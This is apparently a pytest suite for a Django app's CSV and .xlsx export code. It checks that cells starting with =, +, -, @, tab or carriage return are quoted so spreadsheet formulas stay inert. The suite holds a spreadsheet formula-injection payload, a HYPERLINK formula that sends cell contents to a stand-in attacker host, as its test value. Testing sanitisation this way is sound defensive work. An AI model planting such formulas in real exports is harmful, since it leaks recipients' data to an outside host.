"""No export can carry a live formula, and text .xlsx cannot hold never makes an export fail.

A name typed as `=HYPERLINK("http://evil.example","click")` must reach a spreadsheet as text: every
CSV and .xlsx writer puts a single quote before a cell starting with =, +, -, @, tab or carriage
return, and .xlsx cells are written as text. Numbers stay numbers, even negative ones."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from compms.interop.base import neutralise_text, read_table, write_table
from tests.small_org import build_small_org, link_cast

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
pytestmark = pytest.mark.django_db


def xlsx_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_inert_xlsx(content: bytes, expected_text: str = HOSTILE) -> None:
    cells = xlsx_cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert "'" + expected_text.replace("\r", "\n") in [c.value for c in cells]  # XML reads \r back as \n


def assert_inert_csv(content: bytes, expected_text: str = HOSTILE) -> None:
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert "'" + expected_text.replace("\r", "\n") in cells  # a carriage return in a CSV cell becomes a newline


# ---------------------------------------------------------------- the one writer


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_start_is_quoted(text: str) -> None:
    assert neutralise_text(text) == "'" + text
    assert_inert_csv(write_table(["name"], [[text]], "csv"), text)
    assert_inert_xlsx(write_table(["name"], [[text]], "xlsx"), text)


def test_numbers_stay_numbers_and_plain_text_is_untouched() -> None:
    cells = xlsx_cells(write_table(["a", "b", "c", "d"], [[-3, -2.5, "Pump 1", "it's fine"]], "xlsx"))
    assert [(c.value, c.data_type) for c in cells[4:]] == [(-3, "n"), (-2.5, "n"), ("Pump 1", "s"),
                                                           ("it's fine", "s")]
    assert write_table(["a", "b"], [[-3, "Pump 1"]], "csv") == b"a,b\n-3,Pump 1\n"


def test_control_characters_are_stripped_from_xlsx_with_a_note() -> None:
    content = write_table(["name"], [["bell\x01here"], ["nul\x00too"], ["fine"]], "xlsx")
    workbook = load_workbook(io.BytesIO(content))
    assert [row[0] for row in workbook["data"].iter_rows(values_only=True)] == ["name", "bellhere", "nultoo",
                                                                                 "fine"]
    assert "2 cell(s) had control characters removed" in workbook["Notes"]["A1"].value


def test_no_note_when_nothing_was_stripped() -> None:
    assert load_workbook(io.BytesIO(write_table(["name"], [["fine"]], "xlsx"))).sheetnames == ["data"]


def test_infinite_numbers_are_written_as_text_not_a_broken_workbook() -> None:
    cells = xlsx_cells(write_table(["cost"], [[float("inf")]], "xlsx"))
    assert cells[1].value == "inf"


def test_a_quoted_export_reads_back_as_the_original_text(tmp_path) -> None:
    for fmt in ("csv", "xlsx"):
        path = tmp_path / f"back.{fmt}"
        path.write_bytes(write_table(["name", "other"], [[HOSTILE, "'quoted already"]], fmt))
        assert [r.values for r in read_table(path, ("name", "other"))] == [
            {"name": HOSTILE, "other": "'quoted already"}]


# ---------------------------------------------------------------- every export a user can download


@pytest.fixture
def hostile_org(cast):
    build_small_org(competency_name=HOSTILE, person_name=HOSTILE, note=HOSTILE)
    link_cast(cast)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_framework_spreadsheet_export(hostile_org, api, fmt) -> None:
    response = api("hr").get("/api/v1/frameworks/SAFE/export/table", format=fmt)
    assert response.status_code == 200
    (assert_inert_xlsx if fmt == "xlsx" else assert_inert_csv)(response.content)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_framework_spreadsheet_download_page(hostile_org, login_client, fmt) -> None:
    response = login_client("hr").get(f"/interop/export/SAFE/{fmt}/")
    assert response.status_code == 200
    (assert_inert_xlsx if fmt == "xlsx" else assert_inert_csv)(response.content)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_people_export(hostile_org, api, fmt) -> None:
    response = api("hr").get("/api/v1/export/people", format=fmt)
    assert response.status_code == 200
    (assert_inert_xlsx if fmt == "xlsx" else assert_inert_csv)(response.content)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_audit_export(hostile_org, login_client, fmt) -> None:
    response = login_client("hr").get("/audit/export", {"format": fmt})
    assert response.status_code == 200
    cells = (xlsx_cells(response.content) if fmt == "xlsx"
             else [c for row in csv.reader(io.StringIO(response.content.decode())) for c in row])
    values = [c.value if fmt == "xlsx" else c for c in cells]
    assert not any(isinstance(v, str) and v.startswith(("=", "+", "-", "@")) for v in values)
    if fmt == "xlsx":
        assert [c.coordinate for c in cells if c.data_type == "f"] == []


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_gap_exports(hostile_org, login_client, fmt) -> None:
    client = login_client("hr")
    response = client.get("/gaps/", {"export": "competencies", "format": fmt})
    assert response.status_code == 200
    (assert_inert_xlsx if fmt == "xlsx" else assert_inert_csv)(response.content)
    response = client.get("/gaps/", {"export": "people", "format": fmt})
    assert response.status_code == 200


def test_gap_command_line_csv(hostile_org) -> None:
    from compms.gaps.cli import org_scope

    assert_inert_csv(org_scope(True, None, "csv").encode())


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_control_character_in_a_name_exports_fine(cast, api, fmt) -> None:
    build_small_org(person_name="Bell\x01Person")
    response = api("hr").get("/api/v1/export/people", format=fmt)
    assert response.status_code == 200
    if fmt == "xlsx":
        assert "BellPerson" in [c.value for c in xlsx_cells(response.content)]
    else:
        assert "Bell\x01Person" in response.content.decode()
